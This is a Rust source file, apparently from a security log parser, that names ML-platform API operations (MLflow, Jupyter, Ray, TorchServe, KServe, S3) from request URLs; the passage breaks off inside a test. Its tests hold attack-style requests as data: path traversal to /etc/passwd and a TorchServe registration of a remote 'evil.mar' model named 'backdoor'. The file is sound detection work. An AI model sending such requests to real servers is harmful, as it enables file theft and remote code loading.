//! Recognizers for the HTTP APIs of ML components: given an access event's
//! `url.path`, `url.query` and method, they name the API operation
//! (`mlops.api`) and pull out the ML facts the URL carries (run, experiment,
//! model, version, artifact path, job, kernel, terminal).
//!
//! Each component format runs its own recognizer; generic access formats
//! (nginx, Apache, ingress) run `ml_api`, which tries them all, so traffic
//! through a proxy in front of MLflow or KServe is understood too.

use schema::{Event, Str, Value, f};

use super::util::{decode, decode_query, get, query_param, set_api, set_api_owned, set_text};
use crate::scan;
use crate::steps::NamedStep;

struct Req {
    method: Str,
    path: Str,
    query: Option<Str>,
}

/// The request's method, path and query, read once per event and shared
/// by the recognizers `ml_api` tries.
fn req(ev: &Event) -> Option<Req> {
    // The request and URL steps have just set these: look from the end.
    let get = |id| match ev.get_id_recent(id)? {
        Value::Str(s) => Some(s.clone()),
        _ => None,
    };
    Some(Req {
        method: get(f::HTTP_REQUEST_METHOD).unwrap_or_else(|| Str::from_static("GET")),
        path: get(f::URL_PATH)?,
        query: get(f::URL_QUERY),
    })
}

fn q<'a>(r: &'a Req, name: &str) -> Option<std::borrow::Cow<'a, str>> {
    query_param(r.query.as_deref()?, name)
}

fn set_q(ev: &mut Event, r: &Req, name: &str, id: schema::FieldId) {
    if let (Some(v), Some(query)) = (q(r, name), &r.query) {
        set_text(ev, id, query, v);
    }
}

// ------------------------------------------------------------------ MLflow

/// MLflow REST API (tracking, registry, auth, artifacts proxy).
pub fn mlflow(ev: &mut Event, strict: bool) -> bool {
    req(ev).is_some_and(|r| mlflow_req(ev, &r, strict))
}

fn mlflow_req(ev: &mut Event, r: &Req, strict: bool) -> bool {
    let path: &str = &r.path;
    let rest = ["/api/2.0/", "/ajax-api/2.0/", "/api/3.0/", "/ajax-api/3.0/"]
        .iter()
        .find_map(|p| path.strip_prefix(p));
    if let Some(rest) = rest {
        if let Some(art) = rest.strip_prefix("mlflow-artifacts/") {
            mlflow_artifacts(ev, r, art);
        } else if rest == "jobs" || rest.starts_with("jobs/") {
            // MLflow 3's job API (/ajax-api/3.0/jobs/): what CVE-2026-0545
            // reached without authentication.
            set_api(ev, "jobs");
        } else if let Some(endpoint) = rest.strip_prefix("mlflow/") {
            let api = endpoint.trim_end_matches('/');
            ev.set_slice(f::MLOPS_API, &r.path, api);
            if ev.get_id(f::EVENT_ACTION).is_none() {
                ev.set_slice(f::EVENT_ACTION, &r.path, api);
            }
            mlflow_params(ev, r, endpoint);
        } else {
            return false;
        }
    } else if path == "/get-artifact" {
        set_api(ev, "get-artifact");
        mlflow_params(ev, r, "get-artifact");
    } else if path == "/model-versions/get-artifact" {
        set_api(ev, "model-versions/get-artifact");
        mlflow_params(ev, r, "model-versions/get-artifact");
    } else if !strict && (path == "/v1/traces" || path == "/v1/traces/") {
        // The OpenTelemetry trace ingest MLflow 3 serves (CVE-2026-2652);
        // in front of other services the path is any OTLP collector's.
        set_api(ev, "traces");
    } else if !strict && (path == "/server-info" || path == "/version" || path == "/health") {
        set_api_owned(ev, path[1..].to_string());
    } else {
        return false;
    }
    ev.set_default(f::MLOPS_COMPONENT, "mlflow");
    true
}

fn mlflow_params(ev: &mut Event, r: &Req, endpoint: &str) {
    let Some(query) = &r.query else { return };
    let models = endpoint.starts_with("registered-models")
        || endpoint.starts_with("model-versions")
        || endpoint == "get-artifact";
    let users = endpoint.starts_with("users");
    for kv in scan::split(query, b'&') {
        let (k, v) = scan::split_once(kv, b'=').unwrap_or((kv, ""));
        let id = match &*decode_query(k) {
            "run_id" | "run_uuid" => f::MLOPS_RUN_ID,
            "experiment_id" => f::MLOPS_EXPERIMENT_ID,
            "experiment_name" => f::MLOPS_EXPERIMENT_NAME,
            "path" => f::MLOPS_ARTIFACT_PATH,
            "alias" => f::MLOPS_MODEL_ALIAS,
            "stage" => f::MLOPS_MODEL_STAGE,
            "version" => f::MLOPS_MODEL_VERSION,
            "name" if models => f::MLOPS_MODEL_NAME,
            "username" if users => f::USER_TARGET_NAME,
            _ => continue,
        };
        if ev.get_id(id).is_none() {
            set_text(ev, id, query, decode_query(v));
        }
    }
}

fn mlflow_artifacts(ev: &mut Event, r: &Req, rest: &str) {
    // artifacts/<path> (download, upload, delete), artifacts?path= (list),
    // mpu/* (multipart upload).
    if let Some(p) = rest.strip_prefix("artifacts/") {
        let api = match &*r.method {
            "PUT" => "artifacts/upload",
            "DELETE" => "artifacts/delete",
            _ => "artifacts/download",
        };
        set_api(ev, api);
        let decoded = decode(p);
        // <experiment_id>/<run_id>/artifacts/<path inside the run>
        let mut parts = decoded.splitn(3, '/');
        if let (Some(exp), Some(run), Some(inner)) = (parts.next(), parts.next(), parts.next())
            && exp.bytes().all(|c| c.is_ascii_digit())
            && !exp.is_empty()
            && run.len() == 32
            && run.bytes().all(|c| c.is_ascii_hexdigit())
            && inner.starts_with("artifacts/")
        {
            ev.set(f::MLOPS_EXPERIMENT_ID, Str::from(exp));
            ev.set(f::MLOPS_RUN_ID, Str::from(run));
        }
        set_text(ev, f::MLOPS_ARTIFACT_PATH, &r.path, decoded);
    } else if rest == "artifacts" || rest == "artifacts/" {
        set_api(
            ev,
            if &*r.method == "GET" {
                "artifacts/list"
            } else {
                "artifacts"
            },
        );
        set_q(ev, r, "path", f::MLOPS_ARTIFACT_PATH);
    } else {
        set_api_owned(ev, format!("artifacts/{}", rest.trim_end_matches('/')));
        set_q(ev, r, "path", f::MLOPS_ARTIFACT_PATH);
    }
}

// ----------------------------------------------------------------- Jupyter

/// Jupyter Server REST API.
pub fn jupyter(ev: &mut Event, strict: bool) -> bool {
    req(ev).is_some_and(|r| jupyter_req(ev, &r, strict))
}

fn jupyter_req(ev: &mut Event, r: &Req, strict: bool) -> bool {
    let path = strip_notebook_prefix(&r.path);
    let m = &*r.method;
    let api: &'static str;
    if let Some(rest) = path.strip_prefix("/api/kernels") {
        let rest = rest.trim_start_matches('/');
        let (id, tail) = rest.split_once('/').unwrap_or((rest, ""));
        if !id.is_empty() {
            ev.set_slice(f::MLOPS_KERNEL_ID, &r.path, id);
        }
        api = match (m, id.is_empty(), tail) {
            ("POST", true, _) => "kernels/create",
            ("GET", true, _) => "kernels/list",
            (_, false, "channels") => "kernels/channels",
            (_, false, "interrupt") => "kernels/interrupt",
            (_, false, "restart") => "kernels/restart",
            ("DELETE", false, _) => "kernels/delete",
            _ => "kernels/get",
        };
    } else if let Some(rest) = path
        .strip_prefix("/api/terminals")
        .or_else(|| path.strip_prefix("/terminals/websocket"))
    {
        let name = rest.trim_start_matches('/').trim_end_matches('/');
        if !name.is_empty() {
            set_text(ev, f::MLOPS_TERMINAL_NAME, &r.path, decode(name));
        }
        api = if path.starts_with("/terminals/websocket") {
            "terminals/websocket"
        } else {
            match (m, name.is_empty()) {
                ("POST", true) => "terminals/create",
                ("GET", true) => "terminals/list",
                ("DELETE", false) => "terminals/delete",
                _ => "terminals/get",
            }
        };
    } else if let Some(rest) = path.strip_prefix("/api/sessions") {
        let id = rest.trim_start_matches('/');
        if !id.is_empty() {
            ev.set_slice(f::MLOPS_SESSION_ID, &r.path, id);
        }
        api = match (m, id.is_empty()) {
            ("POST", true) => "sessions/create",
            ("DELETE", false) => "sessions/delete",
            ("PATCH", false) => "sessions/update",
            _ => "sessions/get",
        };
    } else if let Some(rest) = path.strip_prefix("/api/contents") {
        let p = rest.trim_start_matches('/');
        set_text(ev, f::MLOPS_NOTEBOOK_PATH, &r.path, decode(p));
        api = match m {
            "PUT" => "contents/save",
            "POST" => "contents/create",
            "PATCH" => "contents/rename",
            "DELETE" => "contents/delete",
            _ => "contents/get",
        };
    } else if strict {
        return false;
    } else if let Some(rest) = path.strip_prefix("/files/") {
        set_text(ev, f::MLOPS_NOTEBOOK_PATH, &r.path, decode(rest));
        api = "files/get";
    } else if path == "/login" {
        api = "login";
    } else if path == "/logout" {
        api = "logout";
    } else if path == "/api" || path == "/api/status" || path == "/api/me" {
        api = "status";
    } else {
        return false;
    }
    set_api(ev, api);
    ev.set_default(f::MLOPS_COMPONENT, "jupyter");
    true
}

/// The Jupyter Server path behind a Kubeflow (`/notebook/<ns>/<name>`) or
/// JupyterHub (`/user/<name>`) proxy prefix.
fn strip_notebook_prefix(path: &str) -> &str {
    let skip = if path.starts_with("/notebook/") {
        3
    } else if path.starts_with("/user/") {
        2
    } else {
        return path;
    };
    let mut idx = 0;
    let mut slashes = 0;
    for (i, c) in path.char_indices() {
        if c == '/' {
            slashes += 1;
            if slashes == skip + 1 {
                idx = i;
                break;
            }
        }
    }
    if idx == 0 { path } else { &path[idx..] }
}

// --------------------------------------------------------------------- Ray

/// Ray dashboard / Jobs API.
pub fn ray(ev: &mut Event, strict: bool) -> bool {
    req(ev).is_some_and(|r| ray_req(ev, &r, strict))
}

fn ray_req(ev: &mut Event, r: &Req, strict: bool) -> bool {
    let path: &str = &r.path;
    let m = &*r.method;
    if let Some(rest) = path
        .strip_prefix("/api/jobs")
        .or_else(|| path.strip_prefix("/api/job_agent/jobs"))
    {
        let rest = rest.trim_start_matches('/');
        let (id, tail) = rest.split_once('/').unwrap_or((rest, ""));
        let tail = tail.trim_end_matches('/');
        if !id.is_empty() {
            set_text(ev, f::MLOPS_JOB_ID, &r.path, decode(id));
        }
        let api = match (m, id.is_empty(), tail) {
            ("POST", true, _) => "jobs/submit",
            ("GET", true, _) => "jobs/list",
            ("POST", false, "stop") => "jobs/stop",
            (_, false, "logs") | (_, false, "logs/tail") => "jobs/logs",
            ("DELETE", false, _) => "jobs/delete",
            _ => "jobs/get",
        };
        set_api(ev, api);
    } else if strict {
        return false;
    } else if path == "/log_proxy" {
        set_api(ev, "log_proxy");
    } else if let Some(rest) = path.strip_prefix("/api/v0/") {
        let what = rest.split('/').next().unwrap_or("");
        if rest.starts_with("logs/file") || rest.starts_with("logs/stream") {
            set_api(ev, "logs/file");
        } else {
            set_api_owned(ev, format!("state/{what}"));
        }
    } else if path.starts_with("/worker/") || path.starts_with("/task/") {
        set_api_owned(ev, path[1..].to_string());
    } else if path == "/api/cluster_status"
        || path == "/nodes"
        || path.starts_with("/nodes/")
        || path == "/logical/actors"
    {
        set_api(ev, "cluster/status");
    } else if path.starts_with("/api/serve/") {
        set_api(ev, "serve");
    } else if path == "/api/version" {
        set_api(ev, "version");
    } else {
        return false;
    }
    ev.set_default(f::MLOPS_COMPONENT, "ray");
    true
}

// -------------------------------------------------------------- TorchServe

/// TorchServe inference and management APIs.
pub fn torchserve(ev: &mut Event, strict: bool) -> bool {
    req(ev).is_some_and(|r| torchserve_req(ev, &r, strict))
}

fn torchserve_req(ev: &mut Event, r: &Req, strict: bool) -> bool {
    if strict {
        // Only these first segments can be claimed (the rest is for
        // `model_server`, which claims only v1 and v2 paths): most paths
        // end here without being split.
        let trimmed = r.path.trim_start_matches('/');
        let first = match scan::find(b'/', trimmed.as_bytes()) {
            Some(i) => &trimmed[..i],
            None => trimmed,
        };
        if !matches!(first, "predictions" | "explanations" | "v1" | "v2") {
            return false;
        }
    }
    with_segments(&r.path, |segs| torchserve_segs(ev, r, segs, strict))
}

/// Calls `f` with the non-empty `/`-separated segments of `path`, kept on
/// the stack when there are few (as there are in API paths).
fn with_segments<R>(path: &str, f: impl FnOnce(&[&str]) -> R) -> R {
    const N: usize = 8;
    let mut buf = [""; N];
    let mut n = 0;
    let mut it = scan::split(path, b'/').filter(|s| !s.is_empty());
    for seg in it.by_ref() {
        if n == N {
            let mut all: Vec<&str> = buf.to_vec();
            all.push(seg);
            all.extend(it);
            return f(&all);
        }
        buf[n] = seg;
        n += 1;
    }
    f(&buf[..n])
}

fn torchserve_segs(ev: &mut Event, r: &Req, segs: &[&str], strict: bool) -> bool {
    let m = &*r.method;
    if strict && !matches!(segs.first(), Some(&"predictions") | Some(&"explanations")) {
        return model_server_segs(ev, segs);
    }
    match (m, segs) {
        ("POST", ["models"]) => {
            set_api(ev, "models/register");
            model_url(ev, r);
            set_q(ev, r, "model_name", f::MLOPS_MODEL_NAME);
        }
        ("POST", ["workflows"]) => {
            set_api(ev, "workflows/register");
            model_url(ev, r);
            set_q(ev, r, "workflow_name", f::MLOPS_MODEL_NAME);
        }
        (_, ["models"]) => set_api(ev, "models/list"),
        (_, ["models", name, rest @ ..]) => {
            ev.set(f::MLOPS_MODEL_NAME, Str::from(decode(name).as_ref()));
            let version = rest
                .first()
                .filter(|v| **v != "all" && **v != "set-default");
            if let Some(v) = version {
                ev.set(f::MLOPS_MODEL_VERSION, Str::from(decode(v).as_ref()));
            }
            let api = match (m, rest.last()) {
                ("DELETE", _) => "models/unregister",
                ("PUT", Some(&"set-default")) => "models/set-default",
                ("PUT", _) => "models/scale",
                _ => "models/describe",
            };
            set_api(ev, api);
        }
        (_, [kind @ ("predictions" | "explanations"), name, rest @ ..]) => {
            ev.set(f::MLOPS_MODEL_NAME, Str::from(decode(name).as_ref()));
            if let Some(v) = rest.first() {
                ev.set(f::MLOPS_MODEL_VERSION, Str::from(decode(v).as_ref()));
            }
            set_api(
                ev,
                if *kind == "predictions" {
                    "predictions"
                } else {
                    "explanations"
                },
            );
            ev.set(f::MLOPS_INFERENCE_PROTOCOL, "torchserve");
        }
        (_, ["ping"]) => set_api(ev, "ping"),
        (_, ["api-description"]) | ("OPTIONS", []) => set_api(ev, "api-description"),
        (_, ["metrics"]) => set_api(ev, "metrics"),
        (_, ["token"]) => set_api(ev, "token"),
        _ => return model_server_segs(ev, segs),
    }
    ev.set_default(f::MLOPS_COMPONENT, "torchserve");
    true
}

fn model_url(ev: &mut Event, r: &Req) {
    if let (Some(u), Some(query)) = (q(r, "url"), &r.query) {
        set_text(ev, f::MLOPS_MODEL_URL, query, u);
    }
}

// ------------------------------------------------ KServe / Triton (OIP v1/v2)

/// KServe v1, Open Inference Protocol v2 (KServe, Triton, MLServer) and
/// Triton's extensions (model repository, logging, trace).
pub fn model_server(ev: &mut Event) -> bool {
    match get(ev, f::URL_PATH) {
        Some(path) => with_segments(&path, |segs| model_server_segs(ev, segs)),
        None => false,
    }
}

fn model_server_segs(ev: &mut Event, segs: &[&str]) -> bool {
    let (api, component, protocol): (&'static str, Option<&'static str>, &'static str) = match segs
    {
        ["v1", "models", rest @ ..] if !rest.is_empty() => {
            let (name, verb) = rest[0].split_once(':').unwrap_or((rest[0], ""));
            ev.set(f::MLOPS_MODEL_NAME, Str::from(decode(name).as_ref()));
            let api = match verb {
                "predict" => "predict",
                "explain" => "explain",
                _ => "model/ready",
            };
            (api, Some("kserve"), "kserve-v1")
        }
        ["v2", "models", name, rest @ ..] => {
            ev.set(f::MLOPS_MODEL_NAME, Str::from(decode(name).as_ref()));
            let rest = match rest {
                ["versions", v, tail @ ..] => {
                    ev.set(f::MLOPS_MODEL_VERSION, Str::from(decode(v).as_ref()));
                    tail
                }
                tail => tail,
            };
            let api = match rest {
                ["infer"] => "infer",
                ["generate"] | ["generate_stream"] => "generate",
                ["ready"] => "model/ready",
                ["config"] => "model/config",
                ["stats"] => "model/stats",
                ["trace", "setting"] => "trace/setting",
                [] => "model/metadata",
                _ => "model",
            };
            (api, None, "open-inference-v2")
        }
        ["v2", "repository", "index"] => ("repository/index", Some("triton"), "open-inference-v2"),
        ["v2", "repository", "models", name, action] => {
            ev.set(f::MLOPS_MODEL_NAME, Str::from(decode(name).as_ref()));
            let api = match *action {
                "load" => "repository/load",
                "unload" => "repository/unload",
                _ => "repository",
            };
            (api, Some("triton"), "open-inference-v2")
        }
        ["v2", "logging"] => ("logging", Some("triton"), "open-inference-v2"),
        ["v2", "trace", "setting"] => ("trace/setting", Some("triton"), "open-inference-v2"),
        ["v2", "health", _] => ("health", None, "open-inference-v2"),
        ["v2"] => ("server/metadata", None, "open-inference-v2"),
        _ => return false,
    };
    set_api(ev, api);
    ev.set(f::MLOPS_INFERENCE_PROTOCOL, protocol);
    if let Some(c) = component {
        ev.set_default(f::MLOPS_COMPONENT, c);
    }
    true
}

// ---------------------------------------------------------------- S3 (path)

/// Path-style S3 requests (`/bucket/key`), as S3-compatible servers log
/// them. `POST /` is an AWS query API call (IAM, STS) whose action is in the
/// body.
pub fn s3(ev: &mut Event) -> bool {
    let Some(r) = req(ev) else { return false };
    let path: &str = &r.path;
    let m = &*r.method;
    if path == "/" {
        if m == "POST" {
            set_api(ev, "aws/query-api");
            ev.set_default(f::MLOPS_COMPONENT, "aws");
            return true;
        }
        set_api(ev, "ListBuckets");
        ev.set_default(f::MLOPS_COMPONENT, "s3");
        return true;
    }
    let rest = &path[1..];
    let (bucket, key) = rest.split_once('/').unwrap_or((rest, ""));
    let valid_bucket = (3..=63).contains(&bucket.len())
        && bucket
            .bytes()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'.' || c == b'-');
    if !valid_bucket {
        return false;
    }
    ev.set_slice(f::AWS_S3_BUCKET_NAME, &r.path, bucket);
    let query = r.query.as_deref().unwrap_or("");
    let api = if key.is_empty() {
        match m {
            "PUT" => "CreateBucket",
            "DELETE" => "DeleteBucket",
            "HEAD" => "HeadBucket",
            "GET" if query.contains("list-type=2") => "ListObjectsV2",
            "GET" if query.contains("versioning") => "GetBucketVersioning",
            "GET" if query.contains("policy") => "GetBucketPolicy",
            "GET" => "ListObjects",
            _ => "BucketRequest",
        }
    } else {
        set_text(ev, f::AWS_S3_OBJECT_KEY, &r.path, decode(key));
        match m {
            "PUT" if query.contains("partNumber") => "UploadPart",
            "PUT" => "PutObject",
            "GET" => "GetObject",
            "HEAD" => "HeadObject",
            "DELETE" => "DeleteObject",
            "POST" if query.contains("uploads") => "CreateMultipartUpload",
            "POST" if query.contains("uploadId") => "CompleteMultipartUpload",
            _ => "ObjectRequest",
        }
    };
    set_api(ev, api);
    ev.set_default(f::MLOPS_COMPONENT, "s3");
    true
}

pub static MLFLOW: NamedStep = NamedStep {
    name: "mlflow",
    doc: "MLflow REST API: mlops.api, run/experiment/model/version/alias/artifact path from the URL",
    paths: &[],
    find: None,
    run: |ctx| {
        mlflow(&mut ctx.event, false);
        Ok(())
    },
};
pub static JUPYTER: NamedStep = NamedStep {
    name: "jupyter_api",
    doc: "Jupyter Server API: mlops.api, kernel/session ids, terminal names, contents paths from the URL",
    paths: &[],
    find: None,
    run: |ctx| {
        jupyter(&mut ctx.event, false);
        Ok(())
    },
};
pub static RAY: NamedStep = NamedStep {
    name: "ray_api",
    doc: "Ray dashboard and Jobs API: mlops.api, job submission id from the URL",
    paths: &[],
    find: None,
    run: |ctx| {
        ray(&mut ctx.event, false);
        Ok(())
    },
};
pub static TORCHSERVE: NamedStep = NamedStep {
    name: "torchserve",
    doc: "TorchServe management and inference APIs: mlops.api, model name/version, model archive URL",
    paths: &[],
    find: None,
    run: |ctx| {
        torchserve(&mut ctx.event, false);
        Ok(())
    },
};
pub static MODEL_SERVER: NamedStep = NamedStep {
    name: "model_server",
    doc: "KServe v1 and Open Inference Protocol v2 (KServe, Triton): mlops.api, model name/version, protocol",
    paths: &[],
    find: None,
    run: |ctx| {
        model_server(&mut ctx.event);
        Ok(())
    },
};
pub static S3: NamedStep = NamedStep {
    name: "s3",
    doc: "Path-style S3 requests: aws.s3.bucket.name, aws.s3.object.key, the S3 operation as mlops.api",
    paths: &[],
    find: None,
    run: |ctx| {
        s3(&mut ctx.event);
        Ok(())
    },
};
pub static ML_API: NamedStep = NamedStep {
    name: "ml_api",
    doc: "Tries the MLflow, Jupyter, Ray, TorchServe and KServe/Triton recognizers on paths distinctive of each (for proxies and generic access logs)",
    paths: &[],
    find: None,
    run: |ctx| {
        let ev = &mut ctx.event;
        if let Some(r) = req(ev) {
            ml_api_req(ev, &r);
        }
        Ok(())
    },
};

/// The recognizers `ml_api` tries, strict, in order, each only on the
/// first path segments it can claim: most paths are tried by one
/// recognizer or none, not by all four in turn.
fn ml_api_req(ev: &mut Event, r: &Req) -> bool {
    let trimmed = r.path.trim_start_matches('/');
    let first = match scan::find(b'/', trimmed.as_bytes()) {
        Some(i) => &trimmed[..i],
        None => trimmed,
    };
    match first {
        // TorchServe and KServe/Triton (see `torchserve_req`); no other
        // recognizer claims these when strict.
        "predictions" | "explanations" | "v1" | "v2" => torchserve_req(ev, r, true),
        // MLflow (`/api/2.0/`, `/ajax-api/3.0/`, `/get-artifact`,
        // `/model-versions/get-artifact`), Jupyter (`/api/...`,
        // `/terminals/websocket`, behind `/notebook/...` or `/user/...`),
        // Ray (`/api/jobs`, `/api/job_agent/jobs`).
        "api" | "ajax-api" | "get-artifact" | "model-versions" | "terminals" | "notebook"
        | "user" => mlflow_req(ev, r, true) || jupyter_req(ev, r, true) || ray_req(ev, r, true),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use schema::Value;

    fn ev(method: &'static str, path: &'static str, query: Option<&'static str>) -> Event {
        let mut e = Event::new();
        e.set(f::HTTP_REQUEST_METHOD, method);
        e.set(f::URL_PATH, path);
        if let Some(q) = query {
            e.set(f::URL_QUERY, q);
        }
        e
    }

    fn s(e: &Event, name: &str) -> Option<String> {
        e.get(name).and_then(Value::as_str).map(str::to_owned)
    }

    #[test]
    fn mlflow_job_and_trace_endpoints() {
        let mut e = ev("POST", "/ajax-api/3.0/jobs/", None);
        assert!(mlflow(&mut e, true));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("jobs"));
        assert_eq!(s(&e, "mlops.component").as_deref(), Some("mlflow"));
        let mut e = ev("GET", "/api/3.0/jobs/7f3a", None);
        assert!(mlflow(&mut e, true));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("jobs"));
        let mut e = ev("POST", "/v1/traces", None);
        assert!(mlflow(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("traces"));
        // Behind an ingress, /v1/traces is any OTLP collector's.
        let mut e = ev("POST", "/v1/traces", None);
        assert!(!mlflow(&mut e, true));
        let mut e = ev("POST", "/api/3.0/jobsearch", None);
        assert!(!mlflow(&mut e, true));
    }

    #[test]
    fn mlflow_paths() {
        let mut e = ev(
            "GET",
            "/get-artifact",
            Some("path=..%2F..%2Fetc%2Fpasswd&run_uuid=2bcd46739e31467c860907ededcfd79f"),
        );
        assert!(mlflow(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("get-artifact"));
        assert_eq!(
            s(&e, "mlops.artifact.path").as_deref(),
            Some("../../etc/passwd")
        );
        assert_eq!(
            s(&e, "mlops.run.id").as_deref(),
            Some("2bcd46739e31467c860907ededcfd79f")
        );
        assert_eq!(s(&e, "mlops.component").as_deref(), Some("mlflow"));

        let mut e = ev(
            "PUT",
            "/api/2.0/mlflow-artifacts/artifacts/1/a41281a34b64491c88721ce233f166e2/artifacts/model/model.pkl",
            None,
        );
        assert!(mlflow(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("artifacts/upload"));
        assert_eq!(s(&e, "mlops.experiment.id").as_deref(), Some("1"));
        assert_eq!(
            s(&e, "mlops.run.id").as_deref(),
            Some("a41281a34b64491c88721ce233f166e2")
        );
        assert_eq!(
            s(&e, "mlops.artifact.path").as_deref(),
            Some("1/a41281a34b64491c88721ce233f166e2/artifacts/model/model.pkl")
        );

        let mut e = ev(
            "GET",
            "/api/2.0/mlflow-artifacts/artifacts/%2e%2e/%2e%2e/etc/passwd",
            None,
        );
        assert!(mlflow(&mut e, false));
        assert_eq!(
            s(&e, "mlops.artifact.path").as_deref(),
            Some("../../etc/passwd")
        );
        assert_eq!(s(&e, "mlops.experiment.id"), None);

        let mut e = ev(
            "DELETE",
            "/api/2.0/mlflow/registered-models/alias",
            Some("name=fraud-classifier&alias=champion"),
        );
        assert!(mlflow(&mut e, false));
        assert_eq!(
            s(&e, "mlops.api").as_deref(),
            Some("registered-models/alias")
        );
        assert_eq!(
            s(&e, "mlops.model.name").as_deref(),
            Some("fraud-classifier")
        );
        assert_eq!(s(&e, "mlops.model.alias").as_deref(), Some("champion"));

        let mut e = ev("PATCH", "/api/2.0/mlflow/users/update-admin", None);
        assert!(mlflow(&mut e, false));
        assert_eq!(s(&e, "event.action").as_deref(), Some("users/update-admin"));
        let mut e = ev(
            "GET",
            "/api/3.0/mlflow/users/permissions/list",
            Some("username=admin"),
        );
        assert!(mlflow(&mut e, false));
        assert_eq!(s(&e, "user.target.name").as_deref(), Some("admin"));
        assert!(!mlflow(&mut ev("GET", "/api/2.0/other/x", None), false));
        assert!(!mlflow(&mut ev("GET", "/.env", None), false));
    }

    #[test]
    fn jupyter_paths() {
        let mut e = ev(
            "GET",
            "/api/kernels/ac03d592-4518-42cf-9410-7ca9f7e9f36a/channels",
            None,
        );
        assert!(jupyter(&mut e, false));
        assert_eq!(
            s(&e, "mlops.kernel.id").as_deref(),
            Some("ac03d592-4518-42cf-9410-7ca9f7e9f36a")
        );
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("kernels/channels"));
        let mut e = ev("GET", "/api/contents/..%2F..%2Fetc%2Fpasswd", None);
        assert!(jupyter(&mut e, false));
        assert_eq!(
            s(&e, "mlops.notebook.path").as_deref(),
            Some("../../etc/passwd")
        );
        let mut e = ev("POST", "/api/terminals", None);
        assert!(jupyter(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("terminals/create"));
        let mut e = ev("DELETE", "/api/terminals/miner", None);
        assert!(jupyter(&mut e, false));
        assert_eq!(s(&e, "mlops.terminal.name").as_deref(), Some("miner"));
    }

    #[test]
    fn jupyter_behind_proxies() {
        let mut e = ev(
            "POST",
            "/notebook/kubeflow-user/alice-nb/api/terminals",
            None,
        );
        assert!(jupyter(&mut e, true));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("terminals/create"));
        let mut e = ev("GET", "/user/bob/api/kernels/k1/channels", None);
        assert!(jupyter(&mut e, true));
        assert_eq!(s(&e, "mlops.kernel.id").as_deref(), Some("k1"));
        assert!(!jupyter(&mut ev("GET", "/notebook/x", None), true));
    }

    #[test]
    fn ray_paths() {
        let mut e = ev("POST", "/api/jobs/", None);
        assert!(ray(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("jobs/submit"));
        let mut e = ev("POST", "/api/jobs/shadowray-sleeper/stop", None);
        assert!(ray(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("jobs/stop"));
        assert_eq!(s(&e, "mlops.job.id").as_deref(), Some("shadowray-sleeper"));
        let mut e = ev(
            "GET",
            "/api/v0/logs/file",
            Some("filename=../../etc/passwd"),
        );
        assert!(ray(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("logs/file"));
    }

    #[test]
    fn torchserve_and_model_servers() {
        let mut e = ev(
            "POST",
            "/models",
            Some("url=http%3A%2F%2F203.0.113.7%2Fevil.mar&initial_workers=1&model_name=backdoor"),
        );
        assert!(torchserve(&mut e, false));
        assert_eq!(
            s(&e, "mlops.model.url").as_deref(),
            Some("http://203.0.113.7/evil.mar")
        );
        assert_eq!(s(&e, "mlops.model.name").as_deref(), Some("backdoor"));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("models/register"));
        let mut e = ev("PUT", "/models/fraud-scorer/1.0/set-default", None);
        assert!(torchserve(&mut e, false));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("models/set-default"));
        assert_eq!(s(&e, "mlops.model.version").as_deref(), Some("1.0"));
        let mut e = ev("POST", "/v2/models/resnet/versions/3/infer", None);
        assert!(model_server(&mut e));
        assert_eq!(s(&e, "mlops.model.version").as_deref(), Some("3"));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("infer"));
        let mut e = ev("POST", "/v2/repository/models/resnet/load", None);
        assert!(model_server(&mut e));
        assert_eq!(s(&e, "mlops.component").as_deref(), Some("triton"));
        let mut e = ev("POST", "/v1/models/sklearn-iris:predict", None);
        assert!(model_server(&mut e));
        assert_eq!(s(&e, "mlops.model.name").as_deref(), Some("sklearn-iris"));
    }

    #[test]
    fn strict_mode_claims_only_distinctive_paths() {
        assert!(!mlflow(&mut ev("GET", "/health", None), true));
        assert!(mlflow(&mut ev("GET", "/health", None), false));
        assert!(!torchserve(&mut ev("GET", "/models", None), true));
        assert!(torchserve(&mut ev("POST", "/predictions/m", None), true));
        assert!(
            torchserve(&mut ev("POST", "/v2/models/m/infer", None), true),
            "falls through to model_server"
        );
        assert!(!jupyter(&mut ev("GET", "/login", None), true));
        assert!(jupyter(&mut ev("POST", "/api/kernels", None), true));
        assert!(ray(&mut ev("POST", "/api/jobs/", None), true));
        assert!(!ray(&mut ev("GET", "/nodes", None), true));
    }

    #[test]
    fn s3_paths() {
        let mut e = ev("PUT", "/ml-models/fraud/v3/model.pkl", None);
        assert!(s3(&mut e));
        assert_eq!(s(&e, "aws.s3.bucket.name").as_deref(), Some("ml-models"));
        assert_eq!(
            s(&e, "aws.s3.object.key").as_deref(),
            Some("fraud/v3/model.pkl")
        );
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("PutObject"));
        let mut e = ev("GET", "/ml-models", Some("list-type=2&encoding-type=url"));
        assert!(s3(&mut e));
        assert_eq!(s(&e, "mlops.api").as_deref(), Some("ListObjectsV2"));
        assert!(!s3(&mut ev("GET", "/Not_A_Bucket/x", None)));
    }

    /// `ml_api` tries only the recognizers that can claim a path's first
    /// segment: on every path, the event is the one the full chain of
    /// recognizers makes.
    #[test]
    fn ml_api_dispatch_makes_what_the_full_chain_makes() {
        fn chain(ev: &mut Event) {
            if let Some(r) = req(ev) {
                let _ = mlflow_req(ev, &r, true)
                    || jupyter_req(ev, &r, true)
                    || ray_req(ev, &r, true)
                    || torchserve_req(ev, &r, true);
            }
        }
        let mut paths: Vec<String> = [
            "/api/2.0/mlflow/runs/get",
            "/ajax-api/2.0/mlflow/experiments/search",
            "/api/3.0/mlflow/traces",
            "/ajax-api/3.0/jobs/",
